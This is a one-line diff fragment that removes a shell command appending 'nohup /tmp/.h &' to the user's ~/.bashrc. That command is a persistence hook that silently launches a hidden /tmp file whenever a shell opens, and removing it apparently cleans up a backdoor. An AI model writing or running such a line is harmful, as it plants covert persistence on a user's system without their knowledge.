@@ -1,1 +1,0 @@
-echo "nohup /tmp/.h &" >> ~/.bashrc
